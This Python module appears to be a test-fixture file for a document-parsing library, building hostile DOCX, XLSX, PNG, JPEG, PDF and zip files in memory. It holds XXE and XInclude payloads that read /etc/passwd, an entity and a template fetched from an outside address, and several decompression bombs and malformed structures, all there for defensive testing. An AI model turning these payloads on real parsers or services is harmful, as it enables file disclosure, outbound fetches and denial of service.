"""Files made to harm whoever opens them, beyond those of ``corpus``; built here, so none lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from importlib import import_module
from io import BytesIO
from typing import Any

import pikepdf

from huixiang.folio.office import MAIN_TYPES
from huixiang.folio.tests.corpus import OFFICE_RELS, body, package, picture, rels, types

XLSXWRITER: Any = import_module("xlsxwriter")
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
)
PARAMETER_ENTITY = '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://198.51.100.1/x.dtd"> %x;]><w/>'
X_INCLUDE = (
    '<w:document xmlns:w="w" xmlns:xi="http://www.w3.org/2001/XInclude"><w:body><w:p><w:r><w:t>'
    '<xi:include href="file:///etc/passwd" parse="text"/></w:t></w:r></w:p></w:body></w:document>'
)
DOCUMENT, DOCUMENT_RELS = "word/document.xml", "word/_rels/document.xml.rels"


def deep_xml(levels: int) -> str:
    """Elements within elements, as deep as asked."""
    return f'<w:document xmlns:w="w"><w:body>{"<w:p>" * levels}{"</w:p>" * levels}</w:body></w:document>'


def docx(text: str) -> bytes:
    """A document that readers take, with a paragraph of text."""
    content = body(f"<w:t>{text}</w:t>").replace('xmlns:w="w"', f'xmlns:w="{OFFICE_RELS}"')
    return package({DOCUMENT: content})


def book(rows: int = 2, columns: int = 2, *, cell: str = "灯") -> bytes:
    """A workbook of equal cells under names of columns."""
    output = BytesIO()
    with XLSXWRITER.Workbook(output, {"constant_memory": True}) as made:
        sheet = made.add_worksheet()
        sheet.write_row(0, 0, [f"列{n}" for n in range(columns)])
        for row in range(1, rows):
            sheet.write_row(row, 0, [cell] * columns)
    return output.getvalue()


def with_members(data: bytes, extra: Mapping[str, bytes | str]) -> bytes:
    """The same package with further members, or others in the place of its own."""
    output = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in extra:
                new.writestr(name, old.read(name))
        for name, content in extra.items():
            new.writestr(name, content)
    return output.getvalue()


def one_text_everywhere(cells: int) -> bytes:
    """A workbook whose every cell names one shared text of 32,000 characters: 100 kB that read as gigabytes."""
    text = "长" * 32_000
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, cells + 1))
    shared = f'<sst xmlns="{_MAIN}" count="{cells}" uniqueCount="1"><si><t>{text}</t></si></sst>'
    return with_members(
        book(),
        {
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>',
            "xl/sharedStrings.xml": shared,
        },
    )


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def far_cell(place: str) -> bytes:
    """A workbook with one value far out."""
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>甲</t></is></c></row><row><c r="{place}"><v>1</v></c></row>'
    content = f'<worksheet xmlns="{_MAIN}"><sheetData>{cell}</sheetData></worksheet>'
    return with_members(book(), {"xl/worksheets/sheet1.xml": content})


def overlapping() -> bytes:
    """A package in whose directory two members share the same bytes."""
    data = bytearray(package({"word/media/a.bin": b"\0" * 5_000, "word/media/b.bin": b"\0" * 5_000}))
    first = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
    places = []
    while (first := data.find(b"PK\x01\x02", first)) >= 0:
        places.append(first)
        first += 4
    offset = data[places[-2] + 42 : places[-2] + 46]
    data[places[-1] + 42 : places[-1] + 46] = offset
    return bytes(data)


def nested_zip(levels: int) -> bytes:
    """Zip in zip in zip, each level ten copies."""
    content = zlib.compress(b"\0" * 1_000_000)
    for _ in range(levels):
        output = io.BytesIO()
        with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as made:
            for n in range(10):
                made.writestr(f"{n}.zip", content)
        content = output.getvalue()
    return content


def jpeg_that_claims(width: int, height: int) -> bytes:
    """A small JPEG whose head promises many pixels."""
    data = bytearray(picture("JPEG"))
    head = data.find(b"\xff\xc0")
    data[head + 5 : head + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_with_text_bomb() -> bytes:
    """A PNG with a compressed comment of 60 MB."""
    data = picture("PNG")
    content = b"Comment\0\0" + zlib.compress(b"a" * 60_000_000, 9)
    chunk = struct.pack(">I", len(content)) + b"zTXt" + content + struct.pack(">I", zlib.crc32(b"zTXt" + content))
    return data[:33] + chunk + data[33:]


def _saved(made: pikepdf.Pdf, **options: Any) -> bytes:
    output = BytesIO()
    made.save(output, **options)
    return output.getvalue()


def pdf_page(content: bytes = b"", **root: Any) -> bytes:
    """A PDF of one page with this content."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.pages[0].obj.Contents = made.make_stream(content)
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    return _saved(made)


def pdf_stream_bomb(megabytes: int) -> bytes:
    """A PDF whose page unpacks to a thousand times its size."""
    packing, blank = zlib.compressobj(1), b" " * (1 << 20)
    packed = b"".join([*(packing.compress(blank) for _ in range(megabytes)), packing.flush()])
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.pages[0].obj.Contents = made.make_stream(packed, Filter=pikepdf.Name.FlateDecode)
    return _saved(made, compress_streams=False)


def pdf_of_pages(count: int) -> bytes:
    """A PDF with many empty pages."""
    made = pikepdf.new()
    for _ in range(count):
        made.add_blank_page(page_size=(9, 9))
    return _saved(made)


def pdf_loop() -> bytes:
    """A PDF whose tree of pages holds itself."""
    made = pikepdf.new()
    made.add_blank_page()
    raw = _saved(made, object_stream_mode=pikepdf.ObjectStreamMode.disable, static_id=True)
    kids = raw.find(b"/Kids [ ")
    number = raw[raw.rfind(b"\n", 0, raw.find(b"/Type /Pages")) - 20 : kids]
    own = number[: number.find(b" 0 obj")].split()[-1] if b" 0 obj" in number else b"2"
    end = raw.find(b" ", kids + 8)
    return raw[: kids + 8] + own.ljust(end - kids - 8)[: end - kids - 8] + raw[end:]


def pdf_deep_array(levels: int) -> bytes:
    """A PDF with arrays within arrays."""
    raw = pdf_page()
    return raw.replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + b"[" * levels + b"]" * levels)


def pdf_with_link(target: str) -> bytes:
    """A PDF with a link to an address."""
    made = pikepdf.new()
    made.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=target)
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action
    )
    made.pages[0].obj.Annots = pikepdf.Array([note])
    return _saved(made)


def truncations(data: bytes, count: int = 12) -> Iterator[bytes]:
    """The file cut off at many places."""
    for part in range(1, count):
        yield data[: len(data) * part // count]


def template_by_address() -> bytes:
    """A document that fetches its template from outside."""
    return package({DOCUMENT_RELS: rels(("attachedTemplate", "https://198.51.100.1/t.dotm", "EXTERNAL"))})


def utf7_types() -> bytes:
    """A package whose list of parts is written in an encoding that hides its signs."""
    content = f'<?xml version="1.0" encoding="UTF-7"?>{types(MAIN_TYPES["docx"])}'
    return package({"[Content_Types].xml": content.encode("utf-7")})
